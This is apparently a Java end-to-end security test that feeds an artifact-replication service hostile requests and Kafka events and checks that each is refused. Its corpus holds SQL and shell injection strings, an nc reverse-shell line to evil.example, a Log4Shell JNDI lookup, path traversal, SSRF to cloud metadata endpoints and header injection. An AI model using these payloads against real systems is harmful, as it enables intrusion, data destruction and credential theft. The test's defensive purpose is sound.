package io.roam.endtoend;

import static io.roam.endtoend.RoamUnderTest.gateway;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import io.roam.contracts.messages.Topics;
import io.roam.contracts.security.ProjectRole;
import io.roam.endtoend.RawHttpExchange.Answer;
import io.roam.infrastructure.security.TokenIssuer;
import io.roam.infrastructure.testing.KafkaTestClient;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A corpus of malformed and hostile requests and training events, sent to the packaged services as an
 * attacker would send them: path traversal in every encoding, names that leave a storage root,
 * endpoints and credentials smuggled into locations, oversized and deeply nested bodies, wrong JSON
 * types and duplicate keys, injection strings, forged project names, bad CloudEvents attributes,
 * replayed events, and every way of presenting no valid token for the project at hand (none, other schemes,
 * expired, another audience or issuer, signed by a foreign key or not at all, unknown or revoked API tokens, a
 * token in the query string, a token for another project or with too low a role). Every request gets the
 * expected 4xx, with an RFC 9457 problem body when the application answers (the HTTP server itself refuses
 * some before any route, without a body), and a 401 names the Bearer scheme; every event goes to the
 * dead-letter topic with a reason; none causes a 5xx or any effect: nothing is registered in the catalog, no
 * policy or API token stored, nothing published on {@code roam.transfer-requests}, no file written. Requests
 * other than the token cases bear an admin token, so that what refuses them is the check they aim at.
 */
@ExtendWith(RoamUnderTest.class)
class HostileInputTest {

    private static final AtomicInteger TRIED = new AtomicInteger();
    private static final AtomicInteger EVENTS_ON_KAFKA = new AtomicInteger();
    private static final Duration TIMEOUT = Duration.ofMinutes(3);
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Strings that a name, a project, a label or a CloudEvents attribute must never be. */
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "llm'; DROP TABLE artifact; --",
            "llm\"; DELETE FROM replica; --",
            "1; SELECT pg_sleep(10)",
            "$(rm -rf /)",
            "`id`",
            "; cat /etc/passwd",
            "| nc evil.example 4444",
            "${jndi:ldap://evil.example/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "#{7*7}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "llm\r\nX-Injected: 1",
            "llm\u0000",
            "../other-project",
            "llm/../other",
            "llm%2fother",
            "llm\\other",
            " llm",
            "*",
            "%",
            "a".repeat(300));

    private final String marker = UUID.randomUUID().toString().substring(0, 8);
    private final String project = "hostile-" + marker;
    private final String run = "run-" + marker;
    private final String localRoot = "file://" + RoamUnderTest.LOCAL_STORAGE + "/";
    private final String validSource = localRoot + marker + "/source/";
    private final String validTarget = "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + "/" + marker + "/copy/";
    private final String escape = "escape-" + marker;
    private KafkaProducer<String, byte[]> producer;
    private KafkaTestClient kafka;

    /** A request and the statuses that may answer it; {@code answeredBeforeRouting} when the HTTP server refuses it itself. */
    private record HostileRequest(String description, String method, byte[] target, List<Map.Entry<String, byte[]>> headers,
            byte[] body, Set<Integer> expectedStatuses, boolean answeredBeforeRouting) {
    }

    /** How a caller presents its credentials: these headers, and this query parameter ({@code name=value}) when not empty. */
    private record Credentials(String description, List<Map.Entry<String, byte[]>> headers, String queryParameter) {
    }

    /**
     * A request that an admin would be answered with an effect or data; {@code otherProjectStatus} is what a
     * caller without any role in the project gets (404 where existence must not leak), null where nothing is
     * denied to it (its own listing).
     */
    private record GuardedEndpoint(String description, String method, String path, List<Map.Entry<String, byte[]>> headers, byte[] body,
            Integer otherProjectStatus) {
    }

    /** A record on {@code roam.training-events}, keyed uniquely so that its dead-letter record can be found. */
    private record HostileEvent(String description, String key, byte[] value, Map<String, byte[]> headers) {
    }

    @BeforeEach
    void connect() {
        Properties settings = new Properties();
        settings.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, RoamUnderTest.kafkaBootstrapServers());
        settings.put(ProducerConfig.ACKS_CONFIG, "all");
        producer = new KafkaProducer<>(settings, new StringSerializer(), new ByteArraySerializer());
        kafka = new KafkaTestClient(RoamUnderTest.kafkaBootstrapServers());
    }

    @AfterEach
    void disconnect() {
        producer.close();
        kafka.close();
    }

    @AfterAll
    static void printCount() {
        System.out.println("hostile inputs tried: " + TRIED.get() + " (" + EVENTS_ON_KAFKA.get() + " of them training events on Kafka, "
                + "the others HTTP requests)");
    }

    @Test
    void everyHostileRequestAndEventIsRefusedWithoutAnySideEffect() throws IOException {
        List<HostileRequest> requests = hostileRequests();
        List<HostileEvent> events = hostileEvents();
        URI gatewayUrl = URI.create(RoamUnderTest.gatewayUrl());

        SoftAssertions softly = new SoftAssertions();
        for (HostileRequest request : requests) {
            Answer answer = RawHttpExchange.exchange(gatewayUrl, request.method(), request.target(), request.headers(), request.body());
            TRIED.incrementAndGet();
            String subject = request.description() + " (" + request.method() + " " + printable(request.target()) + ") answered "
                    + answer.status() + " " + answer.body();
            softly.assertThat(answer.status()).as(subject).isIn(request.expectedStatuses());
            if (!request.answeredBeforeRouting() && answer.status() >= 400) {
                softly.assertThat(answer.contentType()).as(subject).startsWith("application/problem+json");
                softly.assertThat(problemStatus(answer)).as(subject).isEqualTo(answer.status());
            }
            if (!request.answeredBeforeRouting() && answer.status() == 401) {
                softly.assertThat(answer.headers().getOrDefault("www-authenticate", "")).as(subject).startsWith("Bearer");
            }
        }

        for (HostileEvent event : events) {
            ProducerRecord<String, byte[]> record = new ProducerRecord<>(Topics.TRAINING_EVENTS, event.key(), event.value());
            event.headers().forEach((name, value) -> record.headers().add(name, value));
            send(record);
        }
        Map<String, String> reasons = new HashMap<>();
        try {
            await().atMost(TIMEOUT).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
                for (ConsumerRecord<String, String> deadLetter : kafka.records(Topics.TRAINING_EVENTS_DEAD_LETTER)) {
                    if (deadLetter.key() != null && deadLetter.key().startsWith("hostile/" + marker + "/")) {
                        reasons.put(deadLetter.key(), header(deadLetter, "dead-letter-reason"));
                    }
                }
                assertThat(reasons).hasSameSizeAs(events);
            });
        }
        catch (AssertionError missing) {
            events.stream().filter(event -> !reasons.containsKey(event.key()))
                    .forEach(event -> softly.fail("not dead-lettered: " + event.description()));
        }
        TRIED.addAndGet(events.size());
        EVENTS_ON_KAFKA.addAndGet(events.size());
        reasons.forEach((key, reason) -> softly.assertThat(reason).as("dead-letter reason of %s", key).isNotBlank());

        assertNoSideEffect(softly);
        softly.assertAll();
    }

    @Test
    void aReplayedTrainingEventHasTheEffectOfOneOverKafkaAndHttpAlike() throws IOException {
        String template = "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + "/{project}/{run}/{version}/";
        gateway().contentType(ContentType.JSON)
                .body(Map.of("project", project, "name", "replay-to-s3", "kinds", List.of("checkpoint"), "namePattern", "*",
                        "targets", List.of(template), "keepLast", 5))
                .post("/v1/policies").then().statusCode(201);
        Path saved = RoamUnderTest.LOCAL_STORAGE.resolve(project).resolve(run).resolve("checkpoint-1");
        Files.createDirectories(saved);
        Files.writeString(saved.resolve("model.bin"), "weights of " + marker);
        String uri = "file://" + saved + "/";
        String data = JSON.writeValueAsString(Map.of("project", project, "run", run, "version", "checkpoint-1", "uri", uri));
        String id = UUID.randomUUID().toString();
        Map<String, byte[]> headers = Map.of("ce_specversion", bytes("1.0"), "ce_id", bytes(id), "ce_source", bytes("/training/" + run),
                "ce_type", bytes("roam.checkpoint.saved"), "content-type", bytes("application/json"));

        for (int delivery = 0; delivery < 3; delivery++) {
            ProducerRecord<String, byte[]> record = new ProducerRecord<>(Topics.TRAINING_EVENTS, project + "/" + run, bytes(data));
            headers.forEach((name, value) -> record.headers().add(name, value));
            send(record);
            TRIED.incrementAndGet();
            EVENTS_ON_KAFKA.incrementAndGet();
        }
        String artifactId = await().atMost(TIMEOUT).until(() -> artifactIds(project), ids -> ids.size() == 1).getFirst();
        await().atMost(TIMEOUT).untilAsserted(() -> assertThat(gateway().get("/v1/artifacts/{id}/replicas", artifactId).then()
                .statusCode(200).extract().jsonPath().<String>getList("state")).containsExactly("AVAILABLE", "AVAILABLE"));

        // The same event over HTTP, twice more: the same artifact and the same transfer, nothing new.
        List<String> transferIds = new ArrayList<>();
        for (int delivery = 0; delivery < 2; delivery++) {
            JsonPath accepted = gateway().contentType(ContentType.JSON).header("ce-specversion", "1.0").header("ce-id", id)
                    .header("ce-source", "/training/" + run).header("ce-type", "roam.checkpoint.saved").body(data)
                    .post("/v1/events").then().statusCode(202).extract().jsonPath();
            TRIED.incrementAndGet();
            assertThat(accepted.getString("artifactId")).isEqualTo(artifactId);
            transferIds.addAll(accepted.getList("transfers.id"));
        }
        assertThat(transferIds).hasSize(2).containsOnly(transferIds.getFirst());
        assertThat(gateway().get("/v1/transfers/{id}", transferIds.getFirst()).then().statusCode(200).extract().<String>path("state"))
                .isEqualTo("SUCCEEDED");
        assertThat(artifactIds(project)).containsExactly(artifactId);
        assertThat(gateway().get("/v1/artifacts/{id}/replicas", artifactId).then().statusCode(200).extract().jsonPath()
                .<String>getList("location")).hasSize(2).doesNotHaveDuplicates();
        // A delivery that finds the transfer still REQUESTED publishes its request again, in case the first
        // publication was lost; it is the same transfer, whose outcome the catalog applies once.
        List<String> requested = kafka.records(Topics.TRANSFER_REQUESTS).stream()
                .filter(record -> record.value().contains(artifactId))
                .map(record -> JsonPath.from(record.value()).getString("transferId")).distinct().toList();
        assertThat(requested).as("transfers requested for the replayed event").containsExactly(transferIds.getFirst());
    }

    @Test
    void aSymbolicLinkLeadingOutOfItsLocalRootIsNeitherReadNorWrittenThrough() throws IOException {
        Path links = Files.createDirectories(RoamUnderTest.LOCAL_STORAGE.resolve(marker).resolve("links"));
        Path outside = Files.createDirectories(RoamUnderTest.WORK_DIRECTORY.resolve("outside-" + marker));
        Files.writeString(outside.resolve("secret.txt"), "outside the storage root");
        Files.createSymbolicLink(links.resolve("to-outside"), outside);
        Files.createSymbolicLink(links.resolve("to-etc"), Path.of("/etc"));
        Path source = Files.createDirectories(RoamUnderTest.LOCAL_STORAGE.resolve(marker).resolve("honest"));
        Files.writeString(source.resolve("model.bin"), "honest bytes");

        Map<String, String> readThroughLinks = Map.of(
                "a directory link out of the root", "file://" + links + "/to-outside/",
                "a file through a directory link out of the root", "file://" + links + "/to-outside/secret.txt",
                "a link to /etc", "file://" + links + "/to-etc/");
        for (Map.Entry<String, String> escaping : readThroughLinks.entrySet()) {
            String transferId = stage(escaping.getValue(), validTarget + "read-" + UUID.randomUUID() + "/");
            TRIED.incrementAndGet();
            JsonPath transfer = RoamUnderTest.awaitFinished(transferId);
            assertThat(transfer.getString("state")).as(escaping.getKey()).isEqualTo("FAILED");
            assertThat(transfer.getString("error.code")).as(escaping.getKey()).isEqualTo("INVALID_LOCATION");
        }

        String transferId = stage("file://" + source + "/", "file://" + links + "/to-outside/copy/");
        TRIED.incrementAndGet();
        JsonPath transfer = RoamUnderTest.awaitFinished(transferId);
        assertThat(transfer.getString("state")).isEqualTo("FAILED");
        assertThat(transfer.getString("error.code")).isEqualTo("INVALID_LOCATION");
        try (Stream<Path> written = Files.walk(outside)) {
            assertThat(written.filter(Files::isRegularFile)).containsExactly(outside.resolve("secret.txt"));
        }
    }

    private String stage(String source, String target) {
        return gateway().contentType(ContentType.JSON)
                .body(Map.of("project", project, "artifact", Map.of("kind", "dataset", "name", "links-" + UUID.randomUUID(),
                        "version", "v1"), "source", source, "target", target))
                .post("/v1/stagings").then().statusCode(202).extract().path("transfers[0].id");
    }

    // ---------------------------------------------------------------- the corpus

    /** Locations that no request or event may name: each leaves its root, smuggles something in, or is malformed. */
    private List<String> hostileLocations() {
        String s3Root = "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + "/";
        return List.of(
                localRoot + "../" + escape + "/",
                localRoot + marker + "/../../" + escape + "/",
                localRoot + "%2e%2e/" + escape + "/",
                localRoot + "%2E%2E/" + escape + "/",
                localRoot + ".%2e/" + escape + "/",
                localRoot + "%252e%252e/" + escape + "/",
                localRoot + "%25252e%25252e/" + escape + "/",
                localRoot + marker + "%2f..%2f..%2f" + escape + "/",
                localRoot + marker + "%2F%2E%2E%2F" + escape,
                localRoot + "..\\" + escape + "\\",
                localRoot + marker + "\\..\\..\\" + escape,
                localRoot + "%5c..%5c" + escape + "/",
                localRoot + marker + "/a%00b/",
                localRoot + marker + "/a\u0000b/",
                localRoot + marker + "/a\nb/",
                localRoot + "%c0%ae%c0%ae/" + escape + "/",
                localRoot + "%C0%AE%C0%AE%C0%AF" + escape + "/",
                localRoot + "%e0%80%ae%e0%80%ae/" + escape + "/",
                localRoot + "%c1%9c" + escape + "/",
                localRoot + marker + "/x\r\nSet-Cookie: a=b/",
                localRoot + marker + "/x%0d%0aInjected: 1/",
                localRoot + marker + "//" + escape + "/",
                localRoot + "./" + escape + "/",
                "file://" + RoamUnderTest.LOCAL_STORAGE + "-" + escape + "/",
                "file://" + RoamUnderTest.LOCAL_STORAGE.getParent() + "/" + escape + "/",
                "/etc/passwd",
                "file:///etc/",
                "file:///proc/self/environ",
                "file://localhost" + RoamUnderTest.LOCAL_STORAGE + "/" + marker + "/",
                "file://evil.example" + RoamUnderTest.LOCAL_STORAGE + "/" + marker + "/",
                "file:" + RoamUnderTest.LOCAL_STORAGE + "/" + marker + "/",
                "file:///" + "a".repeat(5000) + "/",
                "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + "@evil.example/" + marker + "/",
                "s3://AKIAEXAMPLE:ROAM-FAKE-SECRET-in-a-location@" + RoamUnderTest.S3_REPLICA_BUCKET + "/" + marker + "/",
                "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + ":9000/" + marker + "/",
                "s3://" + RoamUnderTest.S3_REPLICA_BUCKET + ".evil.example/" + marker + "/",
                "s3://169.254.169.254/latest/meta-data/iam/",
                "s3://[::1]/" + marker + "/",
                "s3://" + RoamUnderTest.S3_REPLICA_BUCKET.toUpperCase() + "/" + marker + "/",
                "s3://",
                "s3:///" + marker + "/",
                s3Root + marker + "/x?versionId=1",
                s3Root + marker + "/x#fragment",
                s3Root + marker + "/../../" + RoamUnderTest.S3_SOURCE_BUCKET + "-other/",
                s3Root + "${jndi:ldap://evil.example/a}/",
                "http://169.254.169.254/latest/meta-data/",
                "https://evil.example/" + marker + "/",
                "ftp://evil.example/" + marker + "/",
                "gopher://127.0.0.1:6379/_FLUSHALL",
                "jar:file:///tmp/x.jar!/",
                "ldap://evil.example/a",
                "${jndi:ldap://evil.example/a}",
                "gs://metadata.google.internal/computeMetadata/v1/",
                "abfs://" + RoamUnderTest.AZURE_REPLICA_CONTAINER + "@evil.blob.core.windows.net/" + marker + "/",
                "abfss://c@127.0.0.1:10000/" + marker + "/",
                "sftp://attacker@evil.example:22/srv/",
                "sftp://user:password@" + "evil.example/srv/",
                "hdfs://namenode:8020/" + marker + "/../x/",
                "relative/" + marker + "/",
                "~/" + marker + "/",
                "\\\\server\\share\\" + marker,
                "C:\\Windows\\System32\\",
                " ",
                "");
    }

    private List<HostileRequest> hostileRequests() throws JsonProcessingException {
        List<HostileRequest> requests = new ArrayList<>();
        String kind = "checkpoint";

        // Locations, in every place a location or a location template is accepted.
        for (String location : hostileLocations()) {
            requests.add(json("replication source " + location, "POST", "/v1/replications",
                    replication(project, kind, run, "v1", location, List.of(validTarget), null), 400));
            requests.add(json("replication target " + location, "POST", "/v1/replications",
                    replication(project, kind, run, "v1", validSource, List.of(location), null), 400));
            requests.add(json("staging target " + location, "POST", "/v1/stagings",
                    staging(project, run, validSource, location), 400));
            requests.add(json("policy target " + location, "POST", "/v1/policies", policy(project, List.of(location), 2), 400));
            requests.add(binaryEvent("event uri " + location, eventData(project, run, "v1", location, null), "roam.checkpoint.saved", 400));
        }

        // Injection strings and forged names in every name of a request and an event.
        for (String injection : INJECTIONS) {
            requests.add(json("project " + printable(injection), "POST", "/v1/replications",
                    replication(injection, kind, run, "v1", validSource, List.of(validTarget), null), 400));
            requests.add(json("artifact name " + printable(injection), "POST", "/v1/replications",
                    replication(project, kind, injection, "v1", validSource, List.of(validTarget), null), 400));
            requests.add(json("artifact version " + printable(injection), "POST", "/v1/stagings",
                    staging(project, run + "-" + injection, validSource, validTarget), 400));
            requests.add(json("label key " + printable(injection), "POST", "/v1/replications",
                    replication(project, kind, run, "v1", validSource, List.of(validTarget), Map.of(injection, "x")), 400));
            requests.add(binaryEvent("event project " + printable(injection), eventData(injection, run, "v1", validSource, null),
                    "roam.checkpoint.saved", 400));
            requests.add(binaryEvent("event run " + printable(injection), eventData(project, injection, "v1", validSource, null),
                    "roam.checkpoint.saved", 400));
            requests.add(binaryEvent("event type " + printable(injection), eventData(project, run, "v1", validSource, null),
                    injection, 400));
            requests.add(get("artifact listing by project " + printable(injection), "/v1/artifacts?project=" + encoded(injection), 400));
            requests.add(get("artifact listing by name " + printable(injection), "/v1/artifacts?name=" + encoded(injection), 400));
            requests.add(get("policies of project " + printable(injection), "/v1/policies?project=" + encoded(injection), 400));
            requests.add(get("latest of project " + printable(injection),
                    "/v1/artifacts/latest?kind=checkpoint&name=" + run + "&project=" + encoded(injection), 400));
            requests.add(get("resolve near " + printable(injection),
                    "/v1/artifacts/" + UUID.randomUUID() + "/resolve?near=" + encoded(injection), 400));
        }

        // Oversized bodies, fields and collections.
        requests.add(json("label value of 257 characters", "POST", "/v1/replications",
                replication(project, kind, run, "v1", validSource, List.of(validTarget), Map.of("k", "v".repeat(257))), 400));
        Map<String, String> tooManyLabels = new LinkedHashMap<>();
        IntStream.range(0, 33).forEach(index -> tooManyLabels.put("label-" + index, "x"));
        requests.add(json("33 labels", "POST", "/v1/replications",
                replication(project, kind, run, "v1", validSource, List.of(validTarget), tooManyLabels), 400));
        requests.add(json("17 targets", "POST", "/v1/replications", replication(project, kind, run, "v1", validSource,
                IntStream.range(0, 17).mapToObj(index -> validTarget + index + "/").toList(), null), 400));
        requests.add(json("10,000 targets", "POST", "/v1/replications", replication(project, kind, run, "v1", validSource,
                IntStream.range(0, 10_000).mapToObj(index -> "s3://b/" + index).toList(), null), 413));
        requests.add(json("a name of 256 characters", "POST", "/v1/replications",
                replication(project, kind, "n".repeat(256), "v1", validSource, List.of(validTarget), null), 400));
        requests.add(json("a body over 64 KiB", "POST", "/v1/replications",
                replication(project, kind, run, "v1", validSource, List.of(validTarget), Map.of("k", "v".repeat(70_000))), 413));
        requests.add(raw("a 1 MiB body", "POST", "/v1/replications", List.of(header("Content-Type", "application/json")),
                ("{\"project\":\"" + "x".repeat(1 << 20) + "\"}").getBytes(UTF_8), Set.of(413), true));
        requests.add(raw("a chunked body over 64 KiB", "POST", "/v1/replications",
                List.of(header("Content-Type", "application/json"), header("Transfer-Encoding", "chunked")),
                chunked(("{\"project\":\"" + "x".repeat(80_000) + "\"}").getBytes(UTF_8)), Set.of(413), true));
        requests.add(raw("a Content-Length larger than the limit", "POST", "/v1/replications",
                List.of(header("Content-Type", "application/json"), header("Content-Length", "1000000000")), new byte[0], Set.of(413), true));
        requests.add(raw("a negative Content-Length", "POST", "/v1/replications",
                List.of(header("Content-Type", "application/json"), header("Content-Length", "-1")), new byte[0], Set.of(400), true));
        requests.add(raw("an event over 64 KiB", "POST", "/v1/events", List.of(header("Content-Type", "application/json"),
                header("ce-specversion", "1.0"), header("ce-id", "big"), header("ce-source", "/t"), header("ce-type", "roam.model.saved")),
                ("{\"project\":\"" + "x".repeat(70_000) + "\"}").getBytes(UTF_8), Set.of(413), true));
        requests.add(raw("a header of 64 KiB", "GET", "/v1/artifacts", List.of(header("X-Padding", "p".repeat(64 * 1024))), null,
                Set.of(400, 431), true));
        requests.add(raw("a thousand headers", "GET", "/v1/artifacts",
                IntStream.range(0, 1000).mapToObj(index -> header("X-Header-" + index, "v".repeat(40))).toList(), null,
                Set.of(400, 431), true));
        requests.add(raw("a URI of 10,000 characters", "GET", "/v1/artifacts?project=" + "p".repeat(10_000), List.of(), null,
                Set.of(414, 400), true));

        // Wrong JSON types, shapes and syntax.
        String valid = JSON.writeValueAsString(replication(project, kind, run, "v1", validSource, List.of(validTarget), null));
        String artifact = "{\"kind\":\"checkpoint\",\"name\":\"" + run + "\",\"version\":\"v1\"}";
        List<String> malformed = List.of(
                "null", "[]", "42", "\"a string\"", "true", "{}", "",
                valid.replace("\"project\":\"" + project + "\"", "\"project\":42"),
                valid.replace("\"project\":\"" + project + "\"", "\"project\":[\"" + project + "\"]"),
                valid.replace("\"project\":\"" + project + "\"", "\"project\":{\"name\":\"" + project + "\"}"),
                valid.replace("\"project\":\"" + project + "\"", "\"project\":true"),
                valid.replace("\"project\":\"" + project + "\"", "\"project\":null"),
                valid.replace("\"targets\":[\"" + validTarget + "\"]", "\"targets\":{\"0\":\"" + validTarget + "\"}"),
                valid.replace("\"targets\":[\"" + validTarget + "\"]", "\"targets\":[null]"),
                valid.replace("\"targets\":[\"" + validTarget + "\"]", "\"targets\":[42]"),
                valid.replace("\"targets\":[\"" + validTarget + "\"]", "\"targets\":[[\"" + validTarget + "\"]]"),
                valid.replace("\"source\":\"" + validSource + "\"", "\"source\":{\"uri\":\"" + validSource + "\"}"),
                valid.replace("\"source\":\"" + validSource + "\"", "\"source\":1e309"),
                "{\"project\":\"" + project + "\",\"artifact\":\"" + run + "\",\"source\":\"" + validSource + "\",\"targets\":[\""
                        + validTarget + "\"]}",
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("\"checkpoint\"", "7") + ",\"source\":\""
                        + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("}", ",\"labels\":[\"a\"]}") + ",\"source\":\""
                        + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("}", ",\"labels\":{\"a\":1}}") + ",\"source\":\""
                        + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("}", ",\"labels\":{\"a\":null}}") + ",\"source\":\""
                        + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("}", ",\"labels\":{\"a\":{\"b\":\"c\"}}}")
                        + ",\"source\":\"" + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                // Duplicate keys: which one would win differs between parsers, so none may.
                valid.replace("{\"project\":\"" + project + "\"", "{\"project\":\"" + project + "\",\"project\":\"other\""),
                valid.replace("\"source\":", "\"source\":\"" + validSource + "\",\"source\":"),
                "{\"project\":\"" + project + "\",\"artifact\":" + artifact.replace("}", ",\"labels\":{\"a\":\"1\",\"a\":\"2\"}}")
                        + ",\"source\":\"" + validSource + "\",\"targets\":[\"" + validTarget + "\"]}",
                // Nesting far deeper than any request needs.
                valid.replace("\"project\":\"" + project + "\"", "\"project\":" + "[".repeat(5000) + "]".repeat(5000)),
                "[".repeat(30_000) + "]".repeat(30_000),
                "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
                // Syntax.
                valid.substring(0, valid.length() - 1),
                valid + "{}",
                valid + " trailing",
                "/* comment */" + valid,
                valid.replace("\"project\"", "project"),
                valid.replace("\"project\"", "'project'"),
                valid.replace("\"", "'"),
                valid.replace(",", ",,"),
                "{\"project\":NaN}",
                valid.replace("\"endpoint\"", "").replace("}", ",\"endpoint\":\"http://169.254.169.254/\"}"),
                valid.replace("{\"project\"", "{\"credentials\":{\"secret\":\"x\"},\"project\""),
                valid.replace("{\"project\"", "{\"__proto__\":{\"admin\":true},\"project\""));
        for (int index = 0; index < malformed.size(); index++) {
            requests.add(raw("malformed replication #" + index, "POST", "/v1/replications",
                    List.of(header("Content-Type", "application/json")), malformed.get(index).getBytes(UTF_8), Set.of(400), false));
        }
        requests.add(raw("overlong UTF-8 in a body", "POST", "/v1/replications", List.of(header("Content-Type", "application/json")),
                concat(valid.substring(0, valid.length() - 1).getBytes(UTF_8), bytes(",\"x\":\""), new byte[] {(byte) 0xC0, (byte) 0xAE},
                        bytes("\"}")), Set.of(400), false));
        requests.add(raw("invalid UTF-8 in a location", "POST", "/v1/replications", List.of(header("Content-Type", "application/json")),
                valid.replace(validSource, validSource + "\u0001X").getBytes(UTF_8), Set.of(400), false));

        // Policies: wrong types and values.
        requests.add(json("policy keepLast 0", "POST", "/v1/policies", policy(project, List.of(validTarget + "{run}/"), 0), 400));
        requests.add(json("policy keepLast -1", "POST", "/v1/policies", policy(project, List.of(validTarget + "{run}/"), -1), 400));
        requests.add(raw("policy keepLast too large", "POST", "/v1/policies", List.of(header("Content-Type", "application/json")),
                JSON.writeValueAsString(policy(project, List.of(validTarget), 2)).replace("\"keepLast\":2", "\"keepLast\":99999999999999999999")
                        .getBytes(UTF_8), Set.of(400), false));
        requests.add(json("policy with an unknown placeholder", "POST", "/v1/policies",
                policy(project, List.of(validTarget + "{secret}/"), 2), 400));
        requests.add(json("policy with a placeholder that could traverse", "POST", "/v1/policies",
                policy(project, List.of(localRoot + "{run}/../" + escape + "/"), 2), 400));
        requests.add(json("policy name pattern injection", "POST", "/v1/policies", policyWithPattern(project, "' OR 1=1 --"), 400));
        requests.add(json("policy name pattern regex", "POST", "/v1/policies", policyWithPattern(project, "(a+)+$"), 400));
        for (String injection : INJECTIONS) {
            requests.add(json("policy project " + printable(injection), "POST", "/v1/policies",
                    policy(injection, List.of(validTarget + "{run}/"), 2), 400));
        }

        // Training events over HTTP: bad CloudEvents attributes and data.
        String data = JSON.writeValueAsString(eventData(project, run, "v1", validSource, null));
        List<List<Map.Entry<String, byte[]>>> badAttributes = List.of(
                List.of(header("ce-id", "a"), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "0.3"), header("ce-id", "a"), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.00"), header("ce-id", "a"), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", ""), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"), header("ce-type", "roam.weights.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a%0d%0aX-Forged: 1"), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a%00"), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t%0a%0dforged log line"),
                        header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "i".repeat(5000)), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved"), header("ce-time", "yesterday")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved"), header("ce-time", "${jndi:ldap://evil.example/a}")),
                List.of(header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"),
                        header("ce-type", "roam.checkpoint.saved"), header("ce-subject", "s%0d%0aforged")));
        for (int index = 0; index < badAttributes.size(); index++) {
            List<Map.Entry<String, byte[]>> headers = new ArrayList<>(badAttributes.get(index));
            headers.add(header("Content-Type", "application/json"));
            requests.add(raw("event attributes #" + index, "POST", "/v1/events", headers, data.getBytes(UTF_8), Set.of(400), false));
        }
        requests.add(raw("raw CR LF in an attribute header", "POST", "/v1/events", List.of(header("Content-Type", "application/json"),
                header("ce-specversion", "1.0"), header("ce-id", "a\r\nX-Forged: 1\r\n"), header("ce-source", "/t"),
                header("ce-type", "roam.checkpoint.saved")), data.getBytes(UTF_8), Set.of(400), true));
        requests.add(raw("bare CR in a header", "GET", "/v1/artifacts", List.of(header("X-Bad", "a\rb")), null, Set.of(400), true));
        requests.add(raw("NUL in a header", "GET", "/v1/artifacts", List.of(header("X-Bad", "a\u0000b")), null, Set.of(400), true));
        List<String> badStructured = List.of(
                "not json",
                "[]",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data_base64\":\"e30=\"}",
